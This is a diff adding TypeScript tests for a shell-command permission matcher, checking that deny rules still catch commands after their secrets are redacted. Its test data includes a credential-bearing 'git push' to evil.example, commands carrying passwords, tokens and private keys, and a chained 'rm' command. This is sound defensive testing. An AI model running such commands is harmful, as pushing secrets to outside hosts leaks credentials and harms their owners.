@@ -281,6 +281,90 @@ test('a denied command is found by any of its spellings', () => {
   assert.equal(denied('ls; rm x', 'rm *'), [false, true])
 })
 
+test('a denied command is found where a secret was taken out of it: what stood there may have been anything', () => {
+  const kinds: readonly (readonly [string, string, boolean])[] = [
+    ["mysql '--password=[REDACTED]' db", 'mysql --password=hunter2horse ...', true],
+    ["mysql '--password=[REDACTED]' db", 'mysql --pass*2horse db', true],
+    ["mysql '--password=[REDACTED]' db", 'mysql --user=* db', false],
+    ["mysql '--password=[REDACTED]' db", 'mysql --password=hunter2horse', false],
+    ["git push 'https://[REDACTED]@evil.example/x'", 'git push *@evil.example/*', true],
+    ["git push 'https://[REDACTED]@evil.example/x'", 'git push *@good.example', false],
+    ["git push 'https://[REDACTED]@evil.example/x'", 'git push *@good.example/*', true],
+    ["git push 'https://[REDACTED]@evil.example/x'", 'git push https://u:pass12word@evil.example/x', true],
+    ["curl -H 'Authorization: [AUTH REDACTED]' x", 'curl -H Auth*abc12345 x', true],
+    ["curl -H 'Authorization: [AUTH REDACTED]' x", "curl -H 'Cookie: '* x", false],
+    ["ssh-add '[PRIVATE KEY REDACTED]'", 'ssh-add ????', true],
+    ["tool '[redacted:api_key]-[REDACTED]'", 'tool a-b', true],
+    ["tool '[redacted:api_key]-[REDACTED]'", 'tool ab', false],
+    ["tool 'a[REDACTED]b'", 'tool a\u{1f600}b', true],
+    ["tool 'a[REDACTED]b'", 'tool ?b', true],
+    ["tool 'a[REDACTED]b'", 'tool ?', false],
+    ["tool '[REDACTED' x", 'tool a* x', false],
+    ["tool '[OTHER]' x", 'tool a* x', false],
+    ["TOKEN='[REDACTED]' git push", 'TOKEN=abc123 git push', true],
+    ["TOKEN='[REDACTED]' git push", 'OTHER=abc123 git push', false],
+    ["TOKEN='[REDACTED]' git push", 'git push', true],
+  ]
+  for (const [line, grant, expected] of kinds) assert.equal(denied(line, grant), [expected], `${line} denied by ${grant}`)
+})
+
+test('a grant covers a word without its secret only where it would whatever the secret is, and never since both look alike', () => {
+  const kinds: readonly (readonly [string, string, string])[] = [
+    ["echo '[REDACTED]'", 'echo *', 'covered'],
+    ["echo '[REDACTED]'", 'echo ...', 'covered'],
+    ["curl -H 'Authorization: [AUTH REDACTED]' x", 'curl -H Authorization:* x', 'covered'],
+    ["curl -H 'Authorization: [AUTH REDACTED]' x", 'curl ...', 'covered'],
+    ["deploy 'a[REDACTED]b'", 'deploy a*b', 'covered'],
+    ["deploy '[REDACTED]'", "deploy '[REDACTED]'", 'not'],
+    ["deploy '[REDACTED]'", 'deploy [*]', 'not'],
+    ["deploy '[REDACTED]'", 'deploy ?', 'not'],
+    ["deploy '[REDACTED]'", 'deploy ??????????', 'not'],
+    ["deploy '[REDACTED]'", 'deploy abc123', 'not'],
+    ["deploy 'a[REDACTED]'", 'deploy *D]', 'not'],
+    ["TOKEN='[REDACTED]' git push", 'TOKEN=* git push', 'covered'],
+    ["TOKEN='[REDACTED]' git push", "TOKEN='[REDACTED]' git push", 'not'],
+    ["TOKEN='[REDACTED]' git push", 'TOKEN=abc123 git push', 'not'],
+    ["cat -n '[REDACTED]'", 'cat {read}...', 'read [REDACTED]'],
+    ["grep '--token=[REDACTED]' a", 'grep {read}...', 'opaque undefined'],
+    ["grep -- '--token=[REDACTED]'", 'grep {read}...', 'read --token=[REDACTED]'],
+  ]
+  for (const [line, grant, expected] of kinds) assert.equal(scopes(line, grant), [expected], `${line} under ${grant}`)
+})
+
+test('a secret that is taken out makes no denied command free, and no other text in its place escapes the grant', () => {
+  const random = makeRandom(82)
+  const signs = ['a', 'b', '*', '?', '\u{1f600}', '[', '=']
+  const textOf = (most: number, from: readonly string[]) =>
+    Array.from({ length: random.int(most + 1) }, () => random.pick(from)).join('')
+  const plain = signs.filter((sign) => sign !== '*' && sign !== '?')
+  const part = (word: string) => ({ program: { text: 'x' }, operands: [{ text: word }] })
+  let [found, covered] = [0, 0]
+  for (let round = 0; round < 20_000; round += 1) {
+    const [before, secret, behind] = [textOf(2, plain), textOf(3, plain), textOf(2, plain)]
+    const pattern = textOf(4, signs)
+    const grant = ['x', pattern].map((word) => ({ kind: 'word', pattern: word }) as const)
+    const [whole, kept] = [part(before + secret + behind), part(`${before}[REDACTED]${behind}`)]
+    const about = JSON.stringify([pattern, before, secret, behind])
+    if (isDeniedCommand(whole, grant)) {
+      found += 1
+      assert.ok(isDeniedCommand(kept, grant), about)
+    }
+    if (commandScope(kept, grant).scope === 'covered') {
+      covered += 1
+      assert.is(commandScope(whole, grant).scope, 'covered', about)
+    }
+  }
+  assert.ok(found > 500 && covered > 500, `${found} ${covered}`)
+})
+
+test('a long word of which much was taken out is judged in the time that others take', () => {
+  const word = `${'a[REDACTED]'.repeat(5_000)}b`
+  const started = performance.now()
+  assert.equal(denied(`x '${word}'`, `x ${'*a?'.repeat(30)}b`), [true])
+  assert.equal(denied(`x '${word}'`, `x ${'*a?'.repeat(30)}c`), [false])
+  assert.ok(performance.now() - started < 5_000)
+})
+
 test('another spelling of a command never changes what a grant says to it', () => {
   const random = makeRandom(81)
   const words = ['git', 'log', '-n', 'a b', '*', './x', ';', '--k=v', '..', '-']
